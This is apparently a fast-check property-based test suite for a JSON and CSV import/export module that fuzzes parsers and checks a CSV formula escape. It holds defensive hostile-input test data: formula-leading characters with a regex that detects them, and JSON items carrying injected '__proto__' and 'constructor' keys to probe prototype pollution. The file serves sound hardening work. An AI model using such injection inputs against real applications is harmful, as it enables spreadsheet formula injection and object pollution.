/** The result of a sanitizer, or undefined when the input breaks one of its rules. */
function attempt<T>(run: () => T): T | undefined {
  try {
    return run();
  } catch (error) {
    if (error instanceof InputRuleError) {
      return undefined;
    }
    throw error;
  }
}

function isDefined<T>(value: T | undefined): value is T {
  return value !== undefined;
}

/** `valid` four times out of five, `other` otherwise. */
function mostly<T, U>(valid: fc.Arbitrary<T>, other: fc.Arbitrary<U>): fc.Arbitrary<T | U> {
  return fc.oneof({ arbitrary: valid, weight: 4 }, { arbitrary: other, weight: 1 });
}

const trickyChar = fc.constantFrom(
  'a',
  'Z',
  ' ',
  '\n',
  '\r',
  '\t',
  ',',
  '"',
  "'",
  '=',
  '+',
  '-',
  '@',
  '\u200B',
  '\u200D',
  '\u00A0',
  '\u2028',
  'é',
  'e\u0301',
  'ß',
  '日',
  'ע',
  '😀',
  '👩‍💻',
  '\uFEFF',
  '\u0000',
  '\\',
  '{',
  '[',
  '\uFF1D',
  '\uFF20',
);
const rawText = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: trickyChar, maxLength: 30 }),
);
/** Text that starts like a formula, possibly behind quotes, as the CSV formula escape must round-trip it. */
const formulaLike = fc
  .tuple(
    fc.constantFrom('', "'", "''", "'''"),
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', 'a', ' '),
    rawText,
  )
  .map((parts) => parts.join(''));
const contentArb = fc
  .oneof(rawText, formulaLike)
  .map((text) => attempt(() => cleanContent(text, LIMITS)))
  .filter(isDefined);
const tagCharArb = fc.constantFrom(
  'a',
  'B',
  'z',
  '9',
  'é',
  'Ä',
  '日',
  '٣',
  '_',
  '-',
  ' ',
  'ﬁ',
  'Ǆ',
  '\u0301',
  '\u3000',
);
const tagArb = fc
  .string({ unit: tagCharArb, minLength: 1, maxLength: 12 })
  .map((tag) => attempt(() => cleanTags([tag], LIMITS))?.[0])
  .filter(isDefined);
const tagsArb = fc.array(tagArb, { maxLength: 8 }).map((tags) => cleanTags(tags, LIMITS));
const sourceArb = fc.oneof(
  fc.constant('manual'),
  fc
    .oneof(rawText, formulaLike)
    .map((text) => attempt(() => cleanLabel(text, 200, 'manual')))
    .filter(isDefined),
);
const idArb = fc.stringMatching(/^[A-Za-z0-9_.:-]{1,100}$/);
const timestampArb = fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
const confidenceArb = fc.oneof(
  fc.constantFrom(0, 0.1, 0.5, 0.75, 0.9, 1, 1e-7),
  fc.double({ min: 0, max: 1, noNaN: true }).map((c) => (c === 0 ? 0 : c)),
);
const unitArb: fc.Arbitrary<ContextUnit> = fc.record({
  id: idArb,
  type: fc.constantFrom(...CONTEXT_TYPES),
  content: contentArb,
  confidence: confidenceArb,
  createdAt: timestampArb,
  lastUsed: fc.option(timestampArb, { nil: null }),
  source: sourceArb,
  tags: tagsArb,
  status: fc.constantFrom(...CONTEXT_STATUSES),
  supersededBy: fc.option(idArb, { nil: null }),
});
const unitsArb = fc.uniqueArray(unitArb, { selector: (unit) => unit.id, maxLength: 15 });

/** Runs parseImport; a thrown ImportFormatError is a valid outcome, anything else fails the property. */
function parseOrRefuse(filename: string, bytes: Uint8Array): ImportParseResult | ImportFormatError {
  try {
    return parseImport({ filename, bytes }, options({ maxItems: 50 }));
  } catch (error) {
    if (error instanceof ImportFormatError) {
      return error;
    }
    throw error;
  }
}

/** What must hold for any file: every item is either a unit or an error, and every unit is clean. */
function expectWellFormed(outcome: ImportParseResult | ImportFormatError): void {
  if (outcome instanceof ImportFormatError) {
    return;
  }
  expect(outcome.errors.length).toBeLessThanOrEqual(outcome.total);
  expect(outcome.units.length + outcome.errors.length).toBe(outcome.total);
  expect(new Set(outcome.units.map((u) => u.id)).size).toBe(outcome.units.length);
  for (const unit of outcome.units) {
    expect(cleanContent(unit.content, LIMITS)).toBe(unit.content);
    expect(cleanTags(unit.tags, LIMITS)).toEqual(unit.tags);
    expect(unit.confidence >= 0 && unit.confidence <= 1).toBe(true);
    expect(CONTEXT_TYPES).toContain(unit.type);
    expect(CONTEXT_STATUSES).toContain(unit.status);
    expect(normalizeTimestamp(unit.createdAt)).toBe(unit.createdAt);
  }
}

describe('parseImport properties', () => {
  it('reads any JSON export back into identical units', () => {
    fc.assert(
      fc.property(unitsArb, (units) => {
        const result = importText('backup.json', exportJson(units, EXPORT_DATE), KEEP_IDS);
        expect(result).toEqual({ units, errors: [], total: units.length });
      }),
    );
  });

  it('reads any CSV export back into identical units', () => {
    fc.assert(
      fc.property(unitsArb, (units) => {
        const result = importText('backup.csv', exportCsv(units), KEEP_IDS);
        expect(result).toEqual({ units, errors: [], total: units.length });
      }),
    );
  });

  it('never exports a cell that a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(unitsArb, (units) => {
        for (const row of parseCsvRecords(exportCsv(units))) {
          for (const cell of row) {
            expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
          }
        }
      }),
    );
  });

  it('undoes the formula escape of any string, and escapes only what needs it', () => {
    const cell = fc.oneof(fc.string({ unit: trickyChar, maxLength: 12 }), formulaLike, fc.string());
    fc.assert(
      fc.property(cell, (text) => {
        const escaped = escapeFormula(text);
        expect(unescapeFormula(escaped)).toBe(text);
        expect(escaped === text).toBe(!/^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text));
      }),
      { numRuns: 2_000 },
    );
  });

  it('returns or throws ImportFormatError for any bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), fc.constantFrom('x.json', 'x.csv', 'x.txt'), (bytes, filename) => {
        expectWellFormed(parseOrRefuse(filename, bytes));
      }),
    );
  });

  it('returns or throws ImportFormatError for any JSON value', () => {
    const anyValue = fc.jsonValue({ maxDepth: 3 });
    // Fields are mostly valid so that files mix accepted and refused items; a few ids repeat on purpose.
    const itemArb = fc.record(
      {
        id: mostly(fc.oneof(idArb, fc.constantFrom('dup-1', 'dup-2')), anyValue),
        type: mostly(fc.constantFrom(...CONTEXT_TYPES), anyValue),
        content: mostly(rawText, anyValue),
        confidence: mostly(confidenceArb, fc.oneof(fc.double(), anyValue)),
        tags: mostly(fc.array(mostly(tagArb, fc.string()), { maxLength: 5 }), anyValue),
        source: mostly(rawText, anyValue),
        status: mostly(fc.constantFrom(...CONTEXT_STATUSES), anyValue),
        created_at: mostly(timestampArb, fc.oneof(fc.string(), anyValue)),
        last_used: mostly(fc.option(timestampArb, { nil: null }), fc.oneof(fc.string(), anyValue)),
        superseded_by: mostly(fc.option(idArb, { nil: null }), anyValue),
      },
      { requiredKeys: [] },
    );
    // defineProperty makes an own key even for `__proto__`, which JSON.stringify then writes out.
    const pollutedItemArb = fc
      .tuple(itemArb, fc.constantFrom('__proto__', 'constructor', 'prototype'), anyValue)
      .map(([item, key, value]) =>
        Object.defineProperty({ ...item }, key, { value, enumerable: true, configurable: true, writable: true }),
      );
    const items = fc.array(
      fc.oneof(
        { arbitrary: itemArb, weight: 8 },
        { arbitrary: pollutedItemArb, weight: 1 },
        { arbitrary: anyValue, weight: 1 },
      ),
      { maxLength: 60 },
    );
    const documentArb = fc.oneof(
      anyValue,
      items,
      items.map((contexts) => ({ export_date: EXPORT_DATE, contexts })),
      fc.dictionary(fc.string(), anyValue).map((extra) => ({ ...extra, contexts: [] })),
    );
    fc.assert(
      fc.property(documentArb, (document) => {
        expectWellFormed(parseOrRefuse('x.json', encoder.encode(JSON.stringify(document) ?? '')));
      }),
    );
  });

  it('returns or throws ImportFormatError for any text read as CSV', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: trickyChar }));
    fc.assert(
      fc.property(text, (csv) => {
        expectWellFormed(parseOrRefuse('x.csv', encoder.encode(csv)));
        expectWellFormed(parseOrRefuse('x.csv', encoder.encode(`type,content,tags\r\n${csv}`)));
      }),
    );
  });

  it('returns or throws ImportFormatError for any well-formed CSV table', () => {
    const validCell: Record<(typeof EXPORT_FIELDS)[number], fc.Arbitrary<string>> = {
      id: fc.oneof(idArb, fc.constantFrom('dup-1', 'dup-2', '')),
      type: fc.constantFrom(...CONTEXT_TYPES),
      content: rawText,
      confidence: fc.oneof(confidenceArb.map(formatPythonFloat), fc.constant('')),
      tags: tagsArb.map((tags) => tags.join(',')),
      source: rawText,
      status: fc.constantFrom(...CONTEXT_STATUSES, ''),
      created_at: fc.oneof(timestampArb, fc.constant('')),
      last_used: fc.oneof(timestampArb, fc.constant('')),
      superseded_by: fc.oneof(idArb, fc.constant('')),
    };
    const anyCell = fc.oneof(fc.string(), fc.constantFrom('', '0.5', '2', '-0.0', 'a, b', 'x,,y', 'fact', 'Z'));
    const cellFor = (column: string): fc.Arbitrary<string> => {
      const name = column.trim().toLowerCase();
      const field = EXPORT_FIELDS.find((f) => f === name);
      return field === undefined ? anyCell : mostly(validCell[field], anyCell);
    };
    const others = [...EXPORT_FIELDS.filter((f) => f !== 'type' && f !== 'content'), 'extra'];
    // Mostly a usable header (type and content present, any order); sometimes any mix, duplicates included.
    const usableHeader = fc
      .shuffledSubarray(others)
      .chain((picked) => fc.shuffledSubarray([...picked, 'type', 'content'], { minLength: picked.length + 2 }));
    const anyHeader = fc.uniqueArray(fc.constantFrom(...EXPORT_FIELDS, 'Type', ' content ', 'extra', ''), {
      minLength: 1,
      maxLength: 12,
    });
    const tableArb = mostly(usableHeader, anyHeader).chain((header) =>
      fc.tuple(fc.constant(header), fc.array(fc.tuple(...header.map(cellFor)), { maxLength: 60 })),
    );
    fc.assert(
      fc.property(tableArb, ([header, rows]) => {
        const csv = stringify([header, ...rows], { record_delimiter: 'windows', quote_record_delimiter: true });
        expectWellFormed(parseOrRefuse('x.csv', encoder.encode(csv)));
      }),
    );
  });
});
